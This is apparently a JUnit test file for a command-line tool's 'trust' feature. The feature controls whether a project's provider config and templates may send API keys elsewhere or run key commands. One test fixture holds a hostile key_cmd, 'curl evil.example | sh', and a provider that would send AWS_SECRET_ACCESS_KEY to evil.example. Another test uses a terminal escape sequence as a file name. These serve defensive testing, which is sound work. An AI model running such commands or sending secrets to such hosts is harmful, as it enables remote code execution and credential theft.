package tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import lib.host.Host;
import lib.provider.Json;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** {@code catalog trust}: what a project's files may do before, with and after somebody's word for them. */
class TrustTest extends CliSetup {
    private static final String SUFFIX = "<#ftl attributes={\"about\": \"mine\"}>\n";

    private Loopback stranger;
    private Path providers;
    private Path template;

    /** A project that sends groq's key to its own host and has a template of its own. */
    @BeforeEach
    void project() throws IOException {
        stranger = new Loopback().on("/v1/models", Loopback.json(TWO));
        door.env.remove("GROQ_API_OPENAI");
        providers = door.cwd.resolve("providers.yaml");
        template = door.cwd.resolve("templates/txt/models_PROVIDER.txt.ftl");
        Shell.write(providers, "providers:\n  groq: {base_url: '" + stranger.uri("/v1") + "'}\n");
        Shell.write(template, SUFFIX + "of the project\n");
    }

    @AfterEach
    void end() {
        stranger.close();
    }

    private boolean sendsTheKey() {
        int before = stranger.requests().size();
        door.run("fetch", "groq", "--force", "--timeout", "2s");
        var since = stranger.requests().subList(before, stranger.requests().size());
        return since.stream().anyMatch(request -> request.headers().toString().contains(Fixtures.KEY));
    }

    private String baseUrl() throws IOException {
        return Json.parse(door.run("providers", "show", "groq", "--json").out().getBytes()).get("base_url").textValue();
    }

    private boolean followed() throws IOException {
        return baseUrl().startsWith(stranger.uri("/v1").toString());
    }

    private boolean templateFollowed() throws IOException {
        for (var one : Json.parse(door.run("tools", "list", "--json").out().getBytes())) {
            if (one.get("template").textValue().equals("templates/txt/models_PROVIDER.txt.ftl")) {
                return one.get("trusted").booleanValue();
            }
        }
        return false;
    }

    @Test
    void trusted_files_do_what_ones_own_may_and_before_and_after_they_do_not() throws IOException {
        var before = door.run("providers", "list");
        assertTrue(before.err().contains("groq is built in") && before.err().contains("catalog trust"), before.err());
        assertFalse(followed() || templateFollowed());
        var trust = door.run("trust", "--yes");
        assertEquals(0, trust.code(), trust::toString);
        assertTrue(followed() && templateFollowed());
        assertTrue(sendsTheKey());
        assertEquals("of the project\n", Files.readString(door.cwd.resolve("config/txt/models_groq.txt")));
        assertEquals("", door.run("providers", "list").err());
        assertEquals(0, door.run("untrust").code());
        assertFalse(followed() || templateFollowed());
        assertEquals(3, door.run("untrust").code());
    }

    @Test
    void it_shows_first_what_it_would_allow() throws IOException {
        Shell.write(providers, "providers:\n  groq: {base_url: '" + stranger.uri("/v1") + "'}\n"
                + "  evil: {base_url: 'https://${HOME_SECRET}.evil.example/v1', key_env: [AWS_SECRET_ACCESS_KEY]}\n"
                + "  mistral: {key_cmd: [sh, -c, \"curl evil.example | sh; " + "x".repeat(150) + " the end\"]}\n");
        Shell.write(door.cwd.resolve("templates/acme/a.toml.ftl"),
                "<#ftl attributes={\"apply\": {\"to\": \"~/.acme/a.toml\", \"as\": \"file\"}}>\na = 1\n");
        var shown = door.run("trust", "--dry-run").out();
        assertTrue(shown.contains("GROQ_API_KEY would be sent to " + stranger.uri("/").getAuthority() + " (groq)"), shown);
        assertTrue(shown.contains("AWS_SECRET_ACCESS_KEY would be sent to ${HOME_SECRET}.evil.example (evil)"), shown);
        assertTrue(shown.contains("HOME_SECRET would be sent to"), shown);
        assertTrue(shown.contains("mistral would run: sh -c 'curl evil.example") && shown.contains("the end'"), "the whole command: "
                + shown);
        assertTrue(shown.contains("templates/acme/a.toml.ftl") && shown.contains("applied to ~/.acme/a.toml"), shown);
        assertTrue(shown.contains("models_PROVIDER.txt.ftl") && shown.contains("in place of ours"), shown);
        assertFalse(shown.contains(Fixtures.KEY), shown);
        assertFalse(followed(), "--dry-run trusts nobody");
        var json = Json.parse(door.run("trust", "--dry-run", "--json").out().getBytes());
        assertEquals("GROQ_API_KEY", json.at("/sends/0/variable").textValue());
        assertEquals("sh", json.at("/runs/mistral/0").textValue());
        assertEquals(64, json.at("/files/providers.yaml").textValue().length());
    }

    @Test
    void at_a_terminal_it_asks() throws IOException {
        assertEquals(3, door.typing("n\n", "trust").code());
        assertFalse(followed());
        assertEquals(0, door.typing("yes\n", "trust").code());
        assertTrue(followed());
    }

    @Test
    void any_change_takes_the_trust_away_and_a_line_says_so() throws IOException {
        door.run("trust", "--yes");
        var text = Files.readString(providers);
        Files.writeString(providers, text + "# more\n");
        var result = door.run("providers", "list");
        assertTrue(result.err().contains("./providers.yaml") && result.err().contains("catalog trust"), result.err());
        assertFalse(followed() || templateFollowed());
        Files.writeString(providers, text);
        assertTrue(followed(), "as it was when it was trusted");
        Shell.write(template.resolveSibling("_more.inc.ftl"), "x");
        assertTrue(door.run("providers", "list").err().contains("./templates/txt/_more.inc.ftl"));
        assertFalse(followed() || templateFollowed());
        Files.delete(template.resolveSibling("_more.inc.ftl"));
        Files.delete(template);
        assertFalse(followed(), "one is away");
    }

    @Test
    void a_project_elsewhere_is_trusted_by_its_real_folder() throws IOException {
        var other = folder.resolve("a project");
        Shell.write(other.resolve("providers.yaml"), Files.readString(providers));
        Files.createSymbolicLink(folder.resolve("link"), other);
        assertEquals(0, door.run("trust", "--yes", "../link/../a project/.").code());
        var list = door.run("trust", "--list").out();
        assertTrue(list.contains(other.toRealPath().toString()) && !list.contains("link"), list);
        assertFalse(followed(), "that was another folder");
        assertEquals(2, door.run("trust", "--yes", "../nowhere").code());
        assertEquals(0, door.run("untrust", "../link").code());
        assertTrue(door.run("trust", "--list").err().contains("No folder"));
    }

    @Test
    void a_folder_behind_a_link_is_trusted_by_whatever_way_one_comes() throws IOException {
        door.run("trust", "--yes");
        var link = Files.createSymbolicLink(folder.resolve("link"), door.cwd);
        var other = new FrontDoor(door.home, link);
        other.env.putAll(door.env);
        assertTrue(other.run("providers", "show", "groq").out().contains(stranger.uri("/v1").toString()));
    }

    @Test
    void the_list_tells_what_is_trusted_changed_and_gone() throws IOException {
        door.run("trust", "--yes");
        assertEquals("trusted", Json.parse(door.run("trust", "--list", "--json").out().getBytes()).get(0).get("state").textValue());
        Files.writeString(providers, "providers: {}\n");
        assertTrue(door.run("trust", "--list").out().contains("changed: ./providers.yaml"));
        Files.move(door.cwd, folder.resolve("moved"));
        Files.createDirectories(door.cwd);
        Files.delete(door.cwd);
        assertTrue(door.run("trust", "--list").out().contains("gone"));
        assertEquals(0, door.run("untrust").code());
    }

    @Test
    void what_equals_ours_needs_no_trust_and_nothing_is_nothing() throws IOException {
        Files.copy(Shell.CHECKOUT.resolve("providers.yaml"), providers, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        Files.copy(Shell.CHECKOUT.resolve("templates/txt/models_PROVIDER.txt.ftl"), template,
                java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        var ours = door.run("trust", "--yes");
        assertEquals(0, ours.code(), ours::toString);
        assertTrue(ours.err().contains("needs no trust"), ours.err());
        assertTrue(door.run("trust", "--list").err().contains("No folder"));
        Files.delete(providers);
        Files.delete(template);
        assertEquals(3, door.run("trust", "--yes").code());
    }

    @Test
    void a_broken_file_is_not_trusted() throws IOException {
        Files.writeString(providers, "providers: [");
        assertEquals(4, door.run("trust", "--yes").code());
        assertTrue(door.run("trust", "--list").err().contains("No folder"));
    }

    @Test
    void a_key_cmd_of_a_project_runs_only_with_trust() throws IOException {
        var ran = folder.resolve("ran");
        Files.delete(template);
        Files.writeString(providers, "providers:\n  acme: {base_url: '" + stranger.uri("/v1")
                + "', key_env: ACME_API_KEY, key_cmd: [sh, -c, 'echo x >>" + ran
                + "; echo fake-key-of-acme-1']}\n");
        door.with("PATH", System.getenv("PATH"));
        var before = door.run("fetch", "acme");
        assertTrue(before.err().contains("key_cmd") && before.err().contains("ignored"), before.err());
        assertFalse(Files.exists(ran));
        door.run("trust", "--yes");
        assertFalse(Files.exists(ran), "to trust is not to run");
        door.run("fetch", "acme");
        assertTrue(Files.exists(ran));
        assertTrue(stranger.requests().stream().anyMatch(request -> request.headers().toString().contains("fake-key-of-acme-1")));
    }

    @Test
    void a_damaged_record_trusts_nobody_and_says_so() throws IOException {
        door.run("trust", "--yes");
        var record = door.home.resolve(".local/state/catalog/trusted.json");
        Files.writeString(record, "{");
        assertFalse(followed());
        assertTrue(door.run("providers", "list").err().contains("trusted.json is damaged"));
        var again = door.run("trust", "--yes");
        assertEquals(0, again.code());
        assertTrue(followed());
        assertEquals("{", Files.readString(record.resolveSibling("trusted.json.damaged")), "nothing is lost");
        assertTrue(again.err().contains("trusted.json.damaged"), again::err);
    }

    @Test
    void the_record_is_for_its_owner_only() throws IOException {
        door.run("trust", "--yes");
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(door.home.resolve(".local/state/catalog/trusted.json"))));
    }

    @Test
    void without_yes_and_without_somebody_to_ask_nothing_is_trusted() throws IOException {
        var result = door.run("trust");
        assertEquals(2, result.code(), result::toString);
        assertTrue(result.err().contains("nobody is there to be asked") && result.err().contains("--yes"), result::err);
        assertTrue(result.out().contains("GROQ_API_KEY would be sent to"), "it shows all the same");
        assertFalse(followed());
        assertTrue(door.run("trust", "--list").err().contains("No folder"));
    }

    @Test
    void a_server_is_shown_however_its_address_is_spelt() throws IOException {
        Shell.write(providers, "providers:\n  groq: {base_url: 'HTTP" + stranger.uri("/up").toString().substring(4) + "'}\n"
                + "  acme: {base_url: 'Https://acme.example/v1', key_env: [OPENAI_API_KEY], models: 'HTTPS://list.example/x', wires: {openai-chat: 'HTTPS://w.example'}}\n"
                + "  mistral: {base_url: '${MY_GATEWAY}'}\n  deepseek: {base_url_env: [SOME_URL]}\n");
        var shown = door.run("trust", "--dry-run");
        for (var line : List.of("GROQ_API_KEY would be sent to " + stranger.uri("/").getAuthority(), "OPENAI_API_KEY would be sent to acme.example",
                "OPENAI_API_KEY would be sent to list.example", "OPENAI_API_KEY would be sent to w.example", "MISTRAL_API_KEY would be sent to ${MY_GATEWAY}",
                "DEEPSEEK_API_KEY would be sent to ${SOME_URL}")) {
            assertTrue(shown.out().contains(line), line + " in " + shown);
        }
        assertFalse(shown.out().contains("MY_GATEWAY would be sent"), "it is an address itself");
    }

    private FrontDoor elsewhere(String name) throws IOException {
        var other = new FrontDoor(door.home, Files.createDirectories(folder.resolve(name)));
        other.env.putAll(door.env);
        Shell.write(other.cwd.resolve("providers.yaml"), "providers: {" + name + ": {base_url: https://x.example}}\n");
        return other;
    }

    @Test
    void many_at_once_lose_nothing() throws Exception {
        for (int round = 0; round < 5; round++) {
            var doors = new ArrayList<FrontDoor>();
            for (int i = 0; i < 12; i++) {
                doors.add(elsewhere("r" + round + "n" + i));
            }
            assertEquals(0, doors.get(0).run("trust", "--yes").code());
            var runs = new ArrayList<CompletableFuture<Integer>>();
            runs.add(CompletableFuture.supplyAsync(() -> doors.get(0).run("untrust").code()));
            doors.subList(1, 12).forEach(one -> runs.add(CompletableFuture.supplyAsync(() -> one.run("trust", "--yes").code())));
            for (var run : runs) {
                assertEquals(0, run.get());
            }
            var listed = door.run("trust", "--list", "--json").out();
            assertFalse(listed.contains("/r" + round + "n0\""), listed);
            for (int i = 1; i < 12; i++) {
                assertTrue(listed.contains("/r" + round + "n" + i + "\""), i + " in " + listed);
            }
        }
    }

    /** At a terminal where somebody says yes, and this happens before. */
    private FrontDoor.Result whileAsked(Runnable meanwhile) throws ReflectiveOperationException {
        var out = new StringWriter();
        var err = new StringWriter();
        var typed = new ByteArrayInputStream("y\n".getBytes(StandardCharsets.UTF_8));
        var in = new InputStream() {
            private boolean begun;

            @Override
            public int read() {
                if (!begun) {
                    begun = true;
                    meanwhile.run();
                }
                return typed.read();
            }
        };
        var host = new Host(Map.copyOf(door.env), door.cwd, Clock.fixed(door.now, ZoneOffset.UTC), new PrintWriter(out), new PrintWriter(err), true, in);
        var code = (int) Class.forName("catalog").getMethod("run", Host.class, String[].class).invoke(null, host, new String[] {"trust"});
        return new FrontDoor.Result(code, out.toString(), err.toString());
    }

    @Test
    void what_is_trusted_is_what_was_shown() throws Exception {
        var changed = whileAsked(() -> {
            try {
                Files.writeString(template, SUFFIX + "another\n");
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
        assertEquals(5, changed.code(), changed::toString);
        assertFalse(followed() || templateFollowed());
        assertTrue(door.run("trust", "--list").err().contains("No folder"));
    }

    @Test
    void what_others_trust_while_one_thinks_stays_trusted() throws Exception {
        var other = elsewhere("other");
        assertEquals(0, whileAsked(() -> assertEquals(0, other.run("trust", "--yes").code())).code());
        var listed = door.run("trust", "--list", "--json").out();
        assertTrue(listed.contains("/other\"") && listed.contains("/work\""), listed);
    }

    @Test
    void a_link_in_a_circle_is_told_at_once() throws IOException {
        Files.createSymbolicLink(door.cwd.resolve("templates/loop"), Path.of(".."));
        for (var command : List.of("trust", "render")) {
            Files.createDirectories(door.cwd.resolve("models"));
            Files.writeString(door.cwd.resolve("models/catalog.json"), Files.readString(snapshot()));
            var told = door.run(command);
            assertEquals(4, told.code(), told::toString);
            assertTrue(told.err().contains("templates/loop leads back to a folder that it is in"), told::err);
            assertFalse(told.err().contains("permissions") || told.err().contains("should not happen"), told::err);
        }
        Files.delete(door.cwd.resolve("templates/loop"));
        assertEquals(0, door.run("trust", "--yes").code());
        Files.createSymbolicLink(door.cwd.resolve("templates/loop"), Path.of(".."));
        assertTrue(door.run("providers", "list").err().contains("templates/loop leads back"));
    }

    /** Some snapshot. */
    private Path snapshot() throws IOException {
        var other = elsewhere("snapshot");
        other.env.put("GROQ_API_OPENAI", server.uri("/groq").toString());
        assertEquals(0, other.run("fetch", "groq").code());
        return other.cwd.resolve("models/catalog.json");
    }

    @Test
    void a_link_to_everything_is_told_at_once() throws IOException {
        Files.delete(template);
        Files.delete(template.getParent());
        Files.delete(template.getParent().getParent());
        Files.createSymbolicLink(door.cwd.resolve("templates"), folder);
        assertTrue(door.run("tools").err().contains("work/templates leads back to a folder that it is in"));
        Files.delete(door.cwd.resolve("templates"));
        var many = folder.resolve("many");
        for (int i = 0; i < 25_000; i++) {
            if (i % 1000 == 0) {
                Files.createDirectories(many.resolve("" + i / 1000));
            }
            Files.createFile(many.resolve(i / 1000 + "/" + i));
        }
        Files.createSymbolicLink(door.cwd.resolve("templates"), many);
        var told = door.run("tools");
        assertEquals(4, told.code());
        assertTrue(told.err().contains("templates holds more than 20000 files and folders"), told::err);
        assertEquals(4, door.run("trust", "--yes").code());
    }

    @Test
    void hostile_names_reach_the_terminal_as_text() throws IOException {
        Shell.write(door.cwd.resolve("templates/x\u001b[2J/a.txt.ftl"), "a");
        var shown = door.run("trust", "--dry-run");
        assertFalse(shown.toString().contains("\u001b"), shown::toString);
        assertTrue(shown.out().contains("\\u001b"), shown.out());
    }
}
